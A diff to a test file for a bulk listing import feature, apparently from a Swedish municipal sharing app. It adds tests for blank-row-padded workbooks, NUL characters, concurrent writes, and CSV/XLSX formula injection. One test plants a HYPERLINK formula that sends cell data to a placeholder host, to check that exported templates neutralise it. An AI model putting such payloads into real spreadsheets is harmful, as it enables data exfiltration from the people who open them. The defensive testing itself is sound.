@@ -1,15 +1,18 @@
 """Bulk import of listings: reading CSV and XLSX, per-row errors in Swedish before anything is
 written, the import all or nothing, its progress, the template, and who may do it."""
 
+import csv
 import html
 import io
 import re
+import time
 import zipfile
 from datetime import date, datetime, timedelta
 
 import pytest
 from openpyxl import Workbook, load_workbook
 from sqlalchemy import func, select
+from sqlmodel import Session
 
 from sharing.accounts.models import Notification, Role, Site
 from sharing.catalog.events import LISTINGS_IMPORTED, WANT_MATCHED
@@ -181,6 +184,36 @@ def test_files_that_cannot_be_imported_are_refused_as_a_whole(db, setting, monke
     assert "unpacked" in refused(xlsx_bytes([chair_row()] * 50), "bomb.xlsx")
 
 
+def with_blank_rows(data: bytes, last_row: int, dimension: str) -> bytes:
+    """The workbook with formatted but empty rows added below its listings, down to ``last_row``,
+    and the sheet's dimension as given (Excel writes the true one; a crafted file may not)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as original, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for entry in original.infolist():
+            content = original.read(entry)
+            if entry.filename == "xl/worksheets/sheet1.xml":
+                text = content.decode()
+                rows_now = text.count("<row ")
+                blank = "".join(f'<row r="{n}"><c r="A{n}" s="0"/><c r="K{n}" s="0"/></row>'
+                                for n in range(rows_now + 1, last_row + 1))
+                text = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>', text)
+                content = text.replace("</sheetData>", blank + "</sheetData>").encode()
+            archive.writestr(entry.filename, content)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("dimension", ["A1:K30000", "A1:K2"])
+def test_a_workbook_of_blank_rows_is_refused_without_reading_them_all(db, setting, dimension):
+    data = with_blank_rows(xlsx_bytes([chair_row()]), 30_000, dimension)
+    assert len(data) < imports.MAX_FILE_BYTES
+    with pytest.raises(DomainError) as refused:
+        check(db, setting, data, "tomma-rader.xlsx")
+    assert "beyond row" in refused.value.message and refused.value.params == {"max": imports.MAX_SHEET_ROWS}
+    # Blank rows among the listings, within the bound, are still skipped.
+    preview = check(db, setting, with_blank_rows(xlsx_bytes([chair_row()]), 3_000, "A1:K3000"), "luckor.xlsx")
+    assert preview.ok and len(preview.rows) == 1
+
+
 # --- Checking rows: errors in Swedish, nothing written -----------------------------------------
 
 def upload(client, data, name="inventarie.csv"):
@@ -230,6 +263,16 @@ def test_rows_with_errors_are_listed_in_swedish_and_nothing_is_written(client, a
     ]
     assert count(db, Listing) == 0
     assert count(db, ListingImport) == 0
+
+
+def test_a_nul_character_in_a_cell_is_refused_at_the_preview(db, setting):
+    rows = [chair_row(f"Kontorsstol nummer {n}") for n in range(60)]  # past the first 4 kB, which are sniffed
+    rows.append(chair_row("Kontorsstol\x00svart"))
+    data = csv_bytes(rows)
+    assert b"\x00" not in data[:4096] and b"\x00" in data
+    preview = check(db, setting, data)
+    assert [(e.row, e.column) for e in preview.errors] == [(62, "Rubrik")]
+    assert "NUL" in preview.errors[0].message and preview.rows_with_errors == 1
 
 
 def test_a_file_level_problem_is_shown_on_the_file_field(client, auth, db, setting):
@@ -338,6 +381,26 @@ def test_a_row_refused_while_writing_fails_the_whole_import(client, auth, db, se
     assert "Ange ett tal från 0 till 100" in client.get(f"/catalog/import/{job.id}").get_data(as_text=True)
 
 
+def test_other_users_write_while_an_import_runs(app, client, auth, db, setting):
+    auth.login(setting["manager"])
+    job = checked_import(client, db, csv_bytes([chair_row(f"Stol {n}") for n in range(3_000)]))
+    other = Session(bind=app.extensions["sharing.engine"], expire_on_commit=False)
+    start(client, job)
+    writes = 0
+    try:
+        while import_runner.running() or writes < 3:
+            # Another municipality's administrator renames a site: never "database is locked".
+            site = other.get(Site, setting["skurup_site"].id)
+            site.name = f"Skurups kommunhus {writes}"
+            other.commit()
+            writes += 1
+            time.sleep(0.02)
+    finally:
+        other.close()
+    job = finished(db, job)
+    assert job.status == ImportStatus.DONE and count(db, Listing) == 3_000
+
+
 def test_progress_is_told_as_json_and_on_an_accessible_page(client, auth, db, setting):
     auth.login(setting["manager"])
     job = checked_import(client, db, csv_bytes([chair_row(f"Stol {n}") for n in range(5)]))
@@ -395,6 +458,27 @@ def test_the_templates_import_without_errors(client, auth, db, setting):
     assert "Skurups kommunhus" not in values  # only the user's own municipality's sites
     job = checked_import(client, db, response.get_data(), "mall.xlsx")
     assert job.total == 1 and job.rows[0]["details"]["weight_kg"] == 14.5
+
+
+def test_the_templates_write_no_formula_and_read_their_names_back(client, auth, db, setting, factory):
+    evil = '=HYPERLINK("https://example.invalid/?d="&A1,"Klicka här")'
+    factory.site(setting["ystad"], evil)
+    factory.category("@SUM(1+1)", name_en="Other")
+    auth.login(setting["manager"])
+
+    text = client.get("/catalog/import/template.csv").get_data().decode("utf-8-sig")
+    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
+    assert "'" + evil in cells  # the example row names the first site
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+    data = client.get("/catalog/import/template.xlsx").get_data()
+    workbook = load_workbook(io.BytesIO(data))  # formulas as written, not their values
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert {"'" + evil, "'@SUM(1+1)"} <= {cell.value for cell in cells}
+    # Filled in from the template, the names still mean the site and the category they name.
+    preview = check(db, setting, csv_bytes([chair_row(Plats="'" + evil, Kategori="'@SUM(1+1)")]))
+    assert preview.ok, preview.errors
 
 
 # --- Who may ---------------------------------------------------------------------------------
